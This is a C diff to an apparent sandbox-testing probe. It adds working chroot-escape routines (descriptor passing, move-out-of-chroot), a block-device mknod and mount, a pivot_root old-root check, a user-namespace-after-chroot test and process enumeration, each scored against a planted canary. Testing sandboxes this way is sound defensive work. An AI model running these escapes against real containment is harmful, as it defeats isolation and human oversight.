@@ -15,7 +15,10 @@
 #include <string.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/sysmacros.h>
 #include <sys/uio.h>
 #include <sys/wait.h>
 #include <unistd.h>
@@ -421,5 +424,376 @@ sp_verb_exe_open_write(const struct sp_verb_call *v)
 	sp_kv(v, "tried", "%u", tried);
 	sp_kv(v, "opened", "%s", opened);
 	sp_kv(v, "reached", "%d", opened[0] != '\0');
+	return SP_OBSERVED;
+}
+
+/* Walk `..` from the working directory as far as the kernel lets us, then chroot(".") there. */
+static void
+walk_up_and_chroot(const struct sp_verb_call *v)
+{
+	for (int i = 0; i < 64; i++)
+		if (chdir("..") != 0)
+			break;
+	sp_kv(v, "chroot-dot", "%s", chroot(".") == 0 ? "ok" : sp_errname(errno));
+}
+
+static int
+send_fd(int sock, int fd)
+{
+	char byte = 'f';
+	struct iovec iov = {&byte, 1};
+	union {
+		struct cmsghdr h;
+		char buf[CMSG_SPACE(sizeof(int))];
+	} u;
+	memset(&u, 0, sizeof u);
+	struct msghdr m = {
+	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof u.buf};
+	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
+	c->cmsg_level = SOL_SOCKET;
+	c->cmsg_type = SCM_RIGHTS;
+	c->cmsg_len = CMSG_LEN(sizeof(int));
+	memcpy(CMSG_DATA(c), &fd, sizeof fd);
+	return sendmsg(sock, &m, 0) == 1 ? 0 : -1;
+}
+
+static int
+recv_fd(int sock)
+{
+	char byte;
+	struct iovec iov = {&byte, 1};
+	union {
+		struct cmsghdr h;
+		char buf[CMSG_SPACE(sizeof(int))];
+	} u;
+	struct msghdr m = {
+	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof u.buf};
+	if (recvmsg(sock, &m, MSG_CMSG_CLOEXEC) != 1)
+		return -1;
+	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
+	if (c == NULL || c->cmsg_type != SCM_RIGHTS)
+		return -1;
+	int fd;
+	memcpy(&fd, CMSG_DATA(c), sizeof fd);
+	return fd;
+}
+
+static bool
+wait_child(pid_t pid)
+{
+	int st;
+	while (waitpid(pid, &st, 0) < 0)
+		if (errno != EINTR)
+			return false;
+	return WIFEXITED(st);
+}
+
+/*
+ * chw00t #2: a descriptor passed between nested chroots.  A child chroots into DIR/empty and
+ * then receives, over a socketpair (SCM_RIGHTS), a descriptor of this process's `/`, which lies
+ * above the child's new root; it fchdirs there, walks `..` and chroots `.`, then tries the file
+ * canary.  The child prints the keys and exits; nothing changes for the probe.
+ */
+int
+sp_verb_escape_chroot_pass_fd(const struct sp_verb_call *v)
+{
+	const char *dir = sp_probe_dir(), *canary = sp_opt("canary.file");
+	if (dir == NULL || canary == NULL)
+		return sp_cannot(v, "needs the dir= option and the file canary");
+	int sv[2];
+	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) != 0)
+		return sp_cannot(v, "socketpair: %s", sp_errname(errno));
+	pid_t pid = fork();
+	if (pid < 0)
+		return sp_cannot(v, "fork: %s", sp_errname(errno));
+	if (pid == 0) {
+		char target[4096], ready = 'r';
+		close(sv[0]);
+		snprintf(target, sizeof target, "%s/empty", dir);
+		if (chroot(target) == 0 && chdir("/") == 0)
+			sp_kv(v, "chroot", "ok");
+		else
+			sp_kv(v, "chroot", "%s", sp_errname(errno));
+		int fd = -1;
+		if (write(sv[1], &ready, 1) == 1)
+			fd = recv_fd(sv[1]);
+		sp_kv(v, "received", "%s", fd >= 0 ? "ok" : "none");
+		if (fd >= 0 && fchdir(fd) == 0)
+			walk_up_and_chroot(v);
+		sp_probe_file_canary(v, canary, sp_opt("canary.file.id"));
+		_exit(0);
+	}
+	close(sv[1]);
+	char ready;
+	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	if (read(sv[0], &ready, 1) == 1 && root >= 0)
+		send_fd(sv[0], root);
+	if (root >= 0)
+		close(root);
+	close(sv[0]);
+	if (!wait_child(pid))
+		return sp_cannot(v, "child did not exit");
+	return SP_OBSERVED;
+}
+
+/*
+ * chw00t #5, move-out-of-chroot: a child chroots into SCRATCH/sp-mv-NONCE/a and settles in its
+ * subdirectory b; this process, outside that chroot, renames a/b to sp-mv-NONCE/b, above the
+ * child's root.  The child's working directory is now outside its root: it walks `..`, chroots
+ * `.` and tries the file canary.  The directories are removed afterwards.
+ */
+int
+sp_verb_escape_chroot_move(const struct sp_verb_call *v)
+{
+	const char *scratch = sp_scratch_dir(), *canary = sp_opt("canary.file"),
+		   *nonce = sp_opt("nonce");
+	if (scratch == NULL || canary == NULL || nonce == NULL)
+		return sp_cannot(v, "needs a scratch directory, the nonce and the file canary");
+	char top[4096], a[4200], ab[4300], b[4200];
+	snprintf(top, sizeof top, "%s/sp-mv-%.16s", scratch, nonce);
+	snprintf(a, sizeof a, "%s/a", top);
+	snprintf(ab, sizeof ab, "%s/a/b", top);
+	snprintf(b, sizeof b, "%s/b", top);
+	if (mkdir(top, 0700) != 0 || mkdir(a, 0700) != 0 || mkdir(ab, 0700) != 0) {
+		int e = errno;
+		rmdir(ab), rmdir(a), rmdir(top);
+		return sp_cannot(v, "mkdir under '%s': %s", scratch, sp_errname(e));
+	}
+	int sv[2];
+	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) != 0)
+		return sp_cannot(v, "socketpair: %s", sp_errname(errno));
+	pid_t pid = fork();
+	if (pid < 0)
+		return sp_cannot(v, "fork: %s", sp_errname(errno));
+	if (pid == 0) {
+		char c = 'r';
+		close(sv[0]);
+		if (chdir(ab) == 0 && chroot(a) == 0)
+			sp_kv(v, "chroot", "ok");
+		else
+			sp_kv(v, "chroot", "%s", sp_errname(errno));
+		/* tell the parent to move b out, and wait until it did */
+		if (write(sv[1], &c, 1) == 1 && read(sv[1], &c, 1) == 1)
+			walk_up_and_chroot(v);
+		sp_probe_file_canary(v, canary, sp_opt("canary.file.id"));
+		_exit(0);
+	}
+	close(sv[1]);
+	char c;
+	if (read(sv[0], &c, 1) == 1) {
+		sp_kv(v, "move", "%s", rename(ab, b) == 0 ? "ok" : sp_errname(errno));
+		if (write(sv[0], &c, 1) != 1)
+			(void)0;
+	}
+	close(sv[0]);
+	bool ok = wait_child(pid);
+	rmdir(ab), rmdir(b), rmdir(a), rmdir(top);
+	return ok ? SP_OBSERVED : sp_cannot(v, "child did not exit");
+}
+
+/* The file system type of the mount that holds device DEV, from /proc/self/mountinfo. */
+static bool
+fstype_of_dev(unsigned maj, unsigned min, char *type, size_t size)
+{
+	FILE *f = fopen("/proc/self/mountinfo", "re");
+	if (f == NULL)
+		return false;
+	char line[4096];
+	bool found = false;
+	while (!found && fgets(line, sizeof line, f)) {
+		unsigned a, b;
+		char *sep = strstr(line, " - ");
+		if (sscanf(line, "%*s %*s %u:%u", &a, &b) == 2 && a == maj && b == min && sep &&
+		    sscanf(sep + 3, "%63s", type) == 1)
+			found = size > 0;
+	}
+	fclose(f);
+	return found;
+}
+
+/*
+ * chw00t #4: make a block device node for the device that holds the file canary and mount it
+ * read-only on DIR/mnt, then look for the canary in it (every suffix of its path, since the mount
+ * shows the whole file system).  Only outside the host's mount namespace; the node is removed at
+ * once and the mount detached; nothing is ever written to the device.
+ */
+int
+sp_verb_escape_blockdev(const struct sp_verb_call *v)
+{
+	const char *dir = sp_probe_dir(), *canary = sp_opt("canary.file"),
+		   *id = sp_opt("canary.file.id"), *scratch = sp_scratch_dir(),
+		   *nonce = sp_opt("nonce");
+	unsigned maj, min;
+	if (dir == NULL || canary == NULL || id == NULL || nonce == NULL ||
+	    sscanf(id, "%u:%u:", &maj, &min) != 2)
+		return sp_cannot(v, "needs the dir= option and the file canary with its id");
+	if (!sp_ns_differs_from_host(v, "mnt")) {
+		sp_kv(v, "mknod", "refused");
+		return SP_OBSERVED;
+	}
+	if (scratch == NULL)
+		return sp_cannot(v, "no scratch directory");
+	char node[4200], target[4200], type[64] = "ext4";
+	snprintf(node, sizeof node, "%s/sp-blk-%.16s", scratch, nonce);
+	snprintf(target, sizeof target, "%s/mnt", dir);
+	if (mknod(node, S_IFBLK | 0400, makedev(maj, min)) != 0) {
+		sp_kv(v, "mknod", "%s", sp_errname(errno));
+		sp_kv(v, "reached", "0");
+		sp_kv(v, "how", "mknod-refused");
+		return SP_OBSERVED;
+	}
+	sp_kv(v, "mknod", "ok");
+	fstype_of_dev(maj, min, type, sizeof type);
+	int m = mount(node, target, type, MS_RDONLY | MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
+	int e = errno;
+	unlink(node);
+	sp_kv(v, "mount", "%s", m == 0 ? "ok" : sp_errname(e));
+	bool found = false;
+	for (const char *p = canary; m == 0 && p && !found; p = strchr(p + 1, '/')) {
+		char path[8400];
+		struct stat st;
+		snprintf(path, sizeof path, "%s%s", target, p);
+		found = stat(path, &st) == 0 && sp_id_matches(id, &st);
+	}
+	if (m == 0)
+		umount2(target, MNT_DETACH);
+	sp_kv(v, "reached", "%d", found);
+	sp_kv(v, "how", "%s", found ? "mounted-device" : m == 0 ? "not-found" : "mount-refused");
+	return SP_OBSERVED;
+}
+
+/* Enter a new user and mount namespace (mapped to the current ids); true when the mount
+ * namespace is then known to be private. */
+static bool
+enter_private_mntns(void)
+{
+	uid_t uid = getuid();
+	gid_t gid = getgid();
+	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
+		return false;
+	char map[64];
+	write_proc("setgroups", "deny");
+	snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
+	write_proc("uid_map", map);
+	snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
+	write_proc("gid_map", map);
+	return sp_ns_private("mnt");
+}
+
+/*
+ * pivot_root to uncover the old root: a child enters a user and mount namespace of its own
+ * (checked private, so nothing it does reaches the probe or the host), mounts a small tmpfs on
+ * DIR/mnt, pivots onto it with the old root put on its `old` directory, and tries the file canary
+ * under /old: what the sandbox's root mount was laid over, if anything of the host.
+ */
+int
+sp_verb_escape_pivot_root(const struct sp_verb_call *v)
+{
+	const char *dir = sp_probe_dir(), *canary = sp_opt("canary.file"),
+		   *id = sp_opt("canary.file.id");
+	if (dir == NULL || canary == NULL)
+		return sp_cannot(v, "needs the dir= option and the file canary");
+	pid_t pid = fork();
+	if (pid < 0)
+		return sp_cannot(v, "fork: %s", sp_errname(errno));
+	if (pid == 0) {
+		char target[4096], old[4200], path[8192];
+		snprintf(target, sizeof target, "%s/mnt", dir);
+		snprintf(old, sizeof old, "%s/old", target);
+		snprintf(path, sizeof path, "/old%s", canary);
+		const char *step = "unshare";
+		if (!enter_private_mntns())
+			goto refused;
+		step = "mount";
+		if (mount("sp-pivot", target, "tmpfs", MS_NOSUID | MS_NODEV, "size=16k,mode=700") !=
+		    0)
+			goto refused;
+		step = "mkdir";
+		if (mkdir(old, 0700) != 0)
+			goto refused;
+		step = "pivot_root";
+		if (syscall(SYS_pivot_root, target, old) != 0)
+			goto refused;
+		sp_kv(v, "pivot", "ok");
+		struct stat st;
+		bool reached = chdir("/") == 0 && stat(path, &st) == 0 && sp_id_matches(id, &st);
+		sp_kv(v, "reached", "%d", reached);
+		sp_kv(v, "how", "%s", reached ? "old-root" : sp_errname(errno));
+		_exit(0);
+	refused:
+		sp_kv(v, "pivot", "%s %s", step, sp_errname(errno));
+		sp_kv(v, "reached", "0");
+		_exit(0);
+	}
+	return wait_child(pid) ? SP_OBSERVED : sp_cannot(v, "child did not exit");
+}
+
+/*
+ * Chromium's CannotRegainPrivileges: a child chroots into DIR/empty and then tries to create a
+ * user namespace, which would give it every capability (CAP_SYS_CHROOT among them) back.  The
+ * kernel refuses a chrooted task (EPERM); `regained=1` when both steps succeeded.
+ */
+int
+sp_verb_userns_after_chroot(const struct sp_verb_call *v)
+{
+	const char *dir = sp_probe_dir();
+	if (dir == NULL)
+		return sp_cannot(v, "needs the dir= option");
+	pid_t pid = fork();
+	if (pid < 0)
+		return sp_cannot(v, "fork: %s", sp_errname(errno));
+	if (pid == 0) {
+		char target[4096];
+		snprintf(target, sizeof target, "%s/empty", dir);
+		bool chrooted = chroot(target) == 0 && chdir("/") == 0;
+		sp_kv(v, "chroot", "%s", chrooted ? "ok" : sp_errname(errno));
+		bool unshared = unshare(CLONE_NEWUSER) == 0;
+		sp_kv(v, "unshare", "%s", unshared ? "ok" : sp_errname(errno));
+		sp_kv(v, "regained", "%d", chrooted && unshared);
+		_exit(0);
+	}
+	return wait_child(pid) ? SP_OBSERVED : sp_cannot(v, "child did not exit");
+}
+
+/* pidfd_open of the canary process: a descriptor is the reach. */
+int
+sp_verb_pidfd_canary(const struct sp_verb_call *v)
+{
+	const char *pid = sp_opt("canary.pid");
+	if (pid == NULL)
+		return sp_cannot(v, "the harness planted no canary.pid");
+	int fd = (int)syscall(SYS_pidfd_open, (pid_t)atoi(pid), 0);
+	int e = errno;
+	if (fd >= 0)
+		close(fd);
+	sp_kv(v, "reached", "%d", fd >= 0);
+	sp_kv(v, "how", "%s", fd >= 0 ? "pidfd" : sp_errname(e));
+	return SP_OBSERVED;
+}
+
+/* The identity of /proc/PID/exe (followed) of every other visible process: `list` is
+ * `PID=MAJ:MIN:INO,...` for the ones that could be stat'ed. */
+int
+sp_verb_exe_ids(const struct sp_verb_call *v)
+{
+	DIR *d = opendir("/proc");
+	if (d == NULL)
+		return sp_cannot(v, "opendir /proc: %s", sp_errname(errno));
+	char list[4096] = "";
+	size_t o = 0;
+	pid_t self = getpid();
+	for (struct dirent *e; (e = readdir(d)) != NULL;) {
+		if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == self)
+			continue;
+		char path[300], idb[64];
+		struct stat st;
+		snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
+		if (stat(path, &st) != 0 || o + 96 >= sizeof list)
+			continue;
+		o += (size_t)snprintf(list + o, sizeof list - o, "%s%s=%s", o ? "," : "", e->d_name,
+				      sp_id_of(&st, idb, sizeof idb));
+	}
+	closedir(d);
+	sp_kv(v, "list", "%s", list);
 	return SP_OBSERVED;
 }
